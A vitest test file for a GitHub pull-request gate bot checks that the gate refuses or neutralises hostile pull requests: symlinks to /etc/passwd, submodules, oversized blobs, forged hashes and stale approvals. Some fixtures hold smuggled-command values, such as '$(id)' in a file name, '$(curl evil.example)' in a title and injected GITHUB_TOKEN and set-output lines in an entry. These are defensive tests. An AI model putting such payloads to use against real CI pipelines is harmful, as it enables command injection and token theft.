import { beforeEach, describe, expect, test } from "vitest";

import { planMerge } from "../../../scripts/github/gate/plan/index.ts";
import { blobSha } from "../../../scripts/github/kit/blob.ts";
import { people } from "./fake/people.ts";
import { act, addComment, gate, later, merge, validate } from "./fake/play.ts";
import type { FakeGitHub } from "./fake/server.ts";
import { baseFiles, live, open, product, startSetting, stepHere } from "./fake/setting.ts";
import { type FakeFile, type FakePull, World } from "./fake/world.ts";

// Attacks through GitHub itself. The scenarios hold the attacks that start from the facts.

let fake: FakeGitHub;
beforeEach(async () => {
  fake = await startSetting();
});

async function verdict(changes: Record<string, FakeFile | string | null>, more: Partial<FakePull> = {}) {
  open(fake, changes, more);
  await gate(fake);
  return fake.world.checks[0]?.conclusion;
}

test.each<[string, Record<string, FakeFile>]>([
  ["a symbolic link", { [product]: { mode: "120000", content: "../../../../etc/passwd" } }],
  ["a submodule", { [product]: { mode: "160000", type: "commit" } }],
  ["a submodule as an authority’s folder", { "catalogue/islington": { mode: "160000", type: "commit" } }],
  ["a blob with an announced size of 1 GB", { [product]: { content: "x", announced: 2 ** 30 } }],
  ["an executable with an announced size of 1 GB", { [product]: { content: "x", announced: 2 ** 30, mode: "100755" } }],
  ["the folder of an authority in other case", { "catalogue/Camden/authority.yml": { content: live } }],
  ["the folder of the catalogue in other case", { "CATALOGUE/camden/authority.yml": { content: live } }],
  ["a name with a command in it", { "catalogue/camden/products/$(id)\n::error::.yml": { content: live } }],
])("refuses %s without fetching it", async (_, changes) => {
  expect(await verdict(changes)).toBe("failure");
  expect(fake.calls).not.toContain("git/get-blob");
});

test("a change of the catalogue’s settings needs a maintainer of the catalogue", async () => {
  const settings = "name: Ours\nmailbox: catch-all@evil.example\n";
  open(fake, { "catalogue/catalogue.yml": settings, [product]: live });
  const { reports } = await validate(fake, 12);
  expect(reports[0]?.reviewReasons).toContainEqual({ reason: "outside", subject: "catalogue/catalogue.yml" });
});

test("a change of the settings is examined like an entry, and its comment does not ask to move the file", async () => {
  const path = "catalogue/catalogue.yml";
  expect(await verdict({ [path]: `${baseFiles()[path] ?? ""}# Ours\n` })).toBe("neutral");
  expect(fake.world.comments[0]!.body).toContain("✅ The entries have no errors.");
  expect(fake.world.comments[0]!.body).not.toContain("is meant as an entry");
  open(fake, { [path]: "name: X\nsumary: A test.\n" }, { number: 13 });
  const { reports } = await validate(fake, 13);
  expect(reports[0]?.problems.map(({ file, line, rule }) => `${file}:${line} ${rule}`)).toContain(
    `${path}:2 unknown-field`,
  );
});

test("does not trust a blob that is larger than announced", async () => {
  const announced = { [product]: { content: `${live}# ${"x".repeat(70_000)}`, announced: 100 } };
  expect(await verdict(announced)).toBe("action_required");
});

test("does not trust a blob whose content does not match its hash", async () => {
  const other = live.replace("Open Play", "Shut Play");
  const name = blobSha(Buffer.from(live));
  fake.faults = [{ operation: "git/get-blob", how: ({ blobs }) => blobs.set(name, other) }];
  expect(await verdict({ [product]: live })).toBe("action_required");
});

test("does not list the files of a pull request with 101 or 3,001 of them", async () => {
  expect(await verdict({ [product]: live }, { claimed: 101 })).toBe("action_required");
  expect(fake.calls).not.toContain("pulls/list-files");
  fake.world.checks = [];
  expect(await verdict({ [product]: live }, { claimed: 3001 })).toBe("action_required");
  expect(fake.calls).not.toContain("pulls/list-files");
});

test("writes nothing from hostile titles, branch names and descriptions", async () => {
  const evil = "$(curl evil.example)`id`\n::error::x @everyone <details>\u202e";
  expect(await verdict({ [product]: live }, { title: evil, branch: evil, body: evil })).toBe("success");
  const written = JSON.stringify([fake.world.comments, fake.world.checks]);
  for (const part of ["evil.example", "::error::", "@everyone", "<details>", "\u202e"]) {
    expect(written).not.toContain(part);
  }
});

test("the output for the next job is one word of letters, digits, - and _, whatever an entry holds", async () => {
  const evil = live.replace("stage: live", 'stage: "x\\nGITHUB_TOKEN=y\\n::set-output name=report::z"');
  open(fake, { [product]: evil, "catalogue/camden/products/a\nb=c.yml": evil });
  const validated = await stepHere(fake, "node scripts/gate-validate.ts", { event: { pull_request: { number: 12 } } });
  expect(Object.keys(validated.outputs)).toEqual(["report", "pull", "head"]);
  expect(validated.outputs["report"]).toMatch(/^[\w-]+$/);
  expect(validated.outputs["pull"]).toBe("12");
  expect(validated.outputs["head"]).toMatch(/^[0-9a-f]{40}$/);
  expect(validated.out).toBe("");
  expect(validated.error).toMatch(/^#12 examined: \d+ errors, \d+ reviews, \d+ hints\n$/);
});

test("does not publish a report about another pull request than the event’s", async () => {
  open(fake, { [product]: live });
  open(fake, { [product]: live.replace("Lets", "Let’s") }, { number: 13, author: people.mallory });
  const other = await validate(fake, 13);
  const event = { pull_request: { number: 12 } };
  const reported = await stepHere(fake, "node scripts/gate-report.ts --apply", { event, env: { REPORT: other.word } });
  expect(reported).toMatchObject({ code: 0, out: "" });
  expect(fake.world.checks).toEqual([]);
});

test("does not publish a report about a pull request that does not follow the event’s issue", async () => {
  open(fake, { [product]: live }, { number: 13, author: people.mallory });
  const other = await validate(fake, 13);
  const event = { issue: { number: 7 }, comment: { id: 77 } };
  for (const branch of [undefined, "issue-7"]) {
    // A fork may have a branch of any name.
    if (branch !== undefined) open(fake, { [product]: live }, { number: 13, author: people.mallory, branch });
    await stepHere(fake, "node scripts/gate-report.ts --apply", { event, env: { REPORT: other.word } });
    expect(fake.world.checks).toEqual([]);
  }
});

/** Creates the merge base of a pull request that reverts another’s open commit, so that GitHub lists its own entry only. */
function revertedCommit(): string {
  return fake.world.amend(fake.world.main, { "README.md": "# The catalogue of councils\n" });
}

test("a merge that would change other files than GitHub lists needs a person", async () => {
  expect(await verdict({ [product]: live }, { mergeBase: revertedCommit() })).toBe("action_required");
  expect(fake.world.comments[0]!.body).toContain("A merge would now change other files than the ones GitHub lists");
});

test("does not merge a pull request that reverts another’s commit, which was merged meanwhile", async () => {
  expect(await verdict({ [product]: live })).toBe("success");
  later(fake, 11);
  const pull = fake.world.pulls.get(12)!;
  await merge(fake, {}, () => {
    pull.mergeBase = revertedCommit();
  });
  expect(pull.merged).toBeUndefined();
  await merge(fake);
  expect(pull.merged).toBeUndefined();
  delete pull.mergeBase;
  await merge(fake);
  expect(pull.merged).toBe(true);
});

/** Returns whether Ada’s own change is merged after the wait. `change` runs between the wait and the merger. */
async function isMerged(more: Partial<FakePull>, change?: (pull: FakePull) => void): Promise<boolean> {
  await verdict({ [product]: live }, more);
  later(fake, 11);
  const pull = fake.world.pulls.get(12)!;
  change?.(pull);
  await merge(fake);
  return pull.merged === true;
}

describe("content that the bot wrote belongs to nobody", () => {
  test.each<[string, Partial<FakePull>]>([
    ["the branch of an issue", { from: new World().owner, branch: "issue-7" }],
    ["a commit of the bot among others", { committers: [new World().bot, people.ada] }],
  ])("%s: a maintainer who opens the pull request also has to approve the commit", async (_, more) => {
    expect(await isMerged(more)).toBe(false);
    later(fake, 1);
    addComment(fake, people.ada, `/merge ${fake.world.pulls.get(12)!.head}`);
    await merge(fake);
    expect(fake.world.pulls.get(12)!.merged).toBe(true);
  });

  test("another branch of this repository belongs to the author of the pull request", async () => {
    expect(await isMerged({ from: fake.world.owner, branch: "issue-7-corrected" })).toBe(true);
  });
});

describe("a hold counts wherever it is written", () => {
  test.each<[string, (pull: FakePull) => void]>([
    [
      "in a review",
      (pull) => (pull.reviews = [{ user: people.quiet, state: "COMMENTED", commit: pull.head, body: "Wait.\n/hold" }]),
    ],
    [
      "in a review comment",
      (pull) => (pull.reviewComments = [{ user: people.quiet, body: "/hold", created: fake.world.now }]),
    ],
    ["in the description", (pull) => (pull.body = "New stage.\r\n\r\n/hold until the launch")],
  ])("%s", async (_, write) => {
    expect(await isMerged({}, write)).toBe(false);
    expect(fake.world.pulls.get(12)!.labels).toEqual(["catalogue: on hold"]);
  });

  test.each([
    ["that is never edited, until a comment releases it", undefined, true],
    ["that was edited before, until a comment releases it", "2026-06-01T12:10:30Z", true],
    ["that is edited after a comment released it", "2026-06-01T12:11:30Z", false],
  ])("in a description %s", async (_, edited, merged) => {
    const release = (pull: FakePull): void => {
      if (edited !== undefined) pull.edited = edited;
      addComment(fake, people.ada, "/release");
    };
    expect(await isMerged({ body: "/hold" }, release)).toBe(merged);
  });

  test.each<[string, (pull: FakePull, updated: string) => void]>([
    ["comment", (_, updated) => addComment(fake, people.ada, "/hold", { created: "2026-06-01T11:00:00Z", updated })],
    [
      "review comment",
      (pull, updated) =>
        (pull.reviewComments = [{ user: people.ada, body: "/hold", created: "2026-06-01T11:00:00Z", updated }]),
    ],
    [
      "review",
      (pull, edited) =>
        (pull.reviews = [
          {
            ...{ user: people.bea, state: "COMMENTED", commit: pull.head, body: "/release" },
            written: "2026-06-01T10:00:00Z",
          },
          {
            ...{ user: people.ada, state: "COMMENTED", commit: pull.head, body: "/hold" },
            ...{ written: "2026-06-01T11:00:00Z", edited },
          },
        ]),
    ],
  ])("in a %s that is edited after another released it", async (_, write) => {
    const edit = (pull: FakePull): void => {
      addComment(fake, people.mo, "/release");
      later(fake, 1);
      write(pull, fake.world.now);
    };
    expect(await isMerged({}, edit)).toBe(false);
    later(fake, 1);
    addComment(fake, people.mo, "/release");
    await merge(fake);
    expect(fake.world.pulls.get(12)!.merged).toBe(true);
  });

  test("in a review that is edited after a release, among a hundred other reviews with commands", async () => {
    const edit = (pull: FakePull): void => {
      addComment(fake, people.mo, "/release");
      later(fake, 1);
      const review = { state: "COMMENTED", commit: pull.head, body: "/hold" };
      const others = Array.from({ length: 100 }, () => ({ ...review, user: people.mallory, body: "/x" }));
      pull.reviews = [
        ...others,
        { ...review, user: people.ada, written: "2026-06-01T11:00:00Z", edited: fake.world.now },
      ];
    };
    expect(await isMerged({}, edit)).toBe(false);
    expect(fake.world.comments[0]!.body).toContain("There are more than it reads, so a maintainer must merge it.");
  });

  test("a description without a command costs no GraphQL request", async () => {
    expect(await isMerged({ body: "See /etc/hosts for what I mean." })).toBe(true);
    expect(fake.calls).not.toContain("graphql");
  });

  test.each(["/merge", "/check", "/release"])(
    "%s in the description has no effect and gets an answer",
    async (command) => {
      const write = (pull: FakePull): string => (pull.body = `${command} ${pull.head}`);
      expect(await isMerged({ author: people.mo }, write)).toBe(false);
      expect(fake.world.comments[0]!.body).toContain("please write it as a comment of its own");
    },
  );
});

test.each(["base_ref_changed", "automatic_base_change_succeeded", "base_ref_force_pushed"])(
  "a merge command or approval from before a retarget to the main branch does not count (%s)",
  async (event) => {
    await verdict({ [product]: live }, { author: people.mallory });
    const pull = fake.world.pulls.get(12)!;
    addComment(fake, people.ada, `/merge ${pull.head}`);
    pull.reviews = [{ user: people.ada, state: "APPROVED", commit: pull.head, written: fake.world.now }];
    later(fake, 1);
    pull.events = [{ event, created: fake.world.now }];
    later(fake, 1);
    fake.world.checks = [];
    await gate(fake);
    later(fake, 11);
    await merge(fake);
    expect(pull.merged).toBeUndefined();
    addComment(fake, people.ada, `/merge ${pull.head}`);
    await merge(fake);
    expect(pull.merged).toBe(true);
  },
);

test("the author of an issue holds back its pull request, another outsider cannot", async () => {
  const issue = { title: "New product", body: "", state: "open" as const, labels: [], user: people.mallory };
  fake.world.issues.push({ ...issue, number: 7 });
  const made = { author: fake.world.bot, from: fake.world.owner, branch: "issue-7" };
  const approved = (pull: FakePull): void => {
    pull.reviews = [{ user: people.ada, state: "APPROVED", commit: pull.head }];
    addComment(fake, people.bea, "/hold");
    addComment(fake, people.mallory, "/hold");
  };
  expect(await isMerged(made, approved)).toBe(false);
  expect(fake.world.pulls.get(12)!.labels).toEqual(["catalogue: on hold"]);
  later(fake, 1);
  addComment(fake, people.mallory, "/release");
  await merge(fake);
  expect(fake.world.pulls.get(12)!.merged).toBe(true);
});

describe("a hold under the issue that a pull request follows", () => {
  const made: Partial<FakePull> = { author: new World().bot, from: new World().owner, branch: "issue-7" };
  const approve = (pull: FakePull): FakePull["reviews"] =>
    (pull.reviews = [{ user: people.ada, state: "APPROVED", commit: pull.head }]);
  beforeEach(() => {
    const issue = { title: "New product", body: "", state: "open" as const, labels: [], user: people.mallory };
    fake.world.issues.push({ ...issue, number: 7 });
  });

  test.each([
    ["by its author", people.mallory],
    ["by a maintainer of the authority", people.ada],
  ])("%s counts, and so does the release", async (_, user) => {
    const held = (pull: FakePull): void => {
      approve(pull);
      addComment(fake, user, "/hold: not before the launch", { issue: 7 });
    };
    expect(await isMerged(made, held)).toBe(false);
    expect(fake.world.comments.find(({ issue }) => issue === 7)!.reactions).toEqual(["+1"]);
    expect(fake.world.comments.find(({ user }) => user === fake.world.bot)!.issue).toBe(12);
    later(fake, 1);
    addComment(fake, user, "/release", { issue: 7 });
    await merge(fake);
    expect(fake.world.pulls.get(12)!.merged).toBe(true);
  });

  test("by somebody else does not count", async () => {
    const held = (pull: FakePull): void => {
      approve(pull);
      addComment(fake, people.bea, "/hold", { issue: 7 });
    };
    expect(await isMerged(made, held)).toBe(true);
  });

  test.each(["deleted", "hidden"] as const)(
    "is not missed among more comments than are read, and a %s issue stops nothing",
    async (gone) => {
      for (let n = 0; n < 600; n++) addComment(fake, people.bea, "Hello", { issue: 7 });
      expect(await isMerged(made, approve)).toBe(false);
      fake.world.issues[0]!.gone = gone;
      await merge(fake);
      expect(fake.world.pulls.get(12)!.merged).toBe(true);
    },
  );

  test("is not missed while GitHub refuses to show the comments under the issue", async () => {
    const pull = open(fake, { [product]: live }, made);
    approve(pull);
    await gate(fake);
    later(fake, 11);
    const { word } = await validate(fake, 12);
    const operation = "issues/list-comments";
    // The comments under the pull request are read first.
    fake.faults = [{ operation, how: 403, call: fake.calls.filter((id) => id === operation).length + 2 }];
    await expect(act(fake, word, planMerge)).rejects.toThrow();
    expect(pull.merged).toBeUndefined();
  });
});

test("a fork of the same owner does not count as this repository", async () => {
  expect(await verdict({ [product]: live }, { from: fake.world.owner })).toBe("success");
  expect(fake.world.comments[0]!.body).toContain("✅ A maintainer of `camden`");
  expect(await verdict({ [product]: live }, { from: fake.world.owner, fork: 77 })).toBe("success");
  expect(fake.world.comments[0]!.body).toContain("⬜ A maintainer of `camden`");
});

test("leaves a comment by somebody else with our marker alone", async () => {
  const body = "<!-- catalogue-gate -->\nAll is well";
  addComment(fake, people.mallory, body);
  await verdict({ [product]: live }, { author: people.mallory });
  expect(fake.world.comments.map(({ user }) => user?.login)).toEqual(["mallory", "github-actions[bot]"]);
  expect(fake.world.comments[0]).toMatchObject({ body });
});

test("removes labels of ours that an outsider has set", async () => {
  await verdict({ [product]: live }, { author: people.mallory, labels: ["catalogue: ready", "help wanted"] });
  expect(fake.world.pulls.get(12)!.labels).toEqual(["help wanted", "catalogue: needs the authority"]);
});
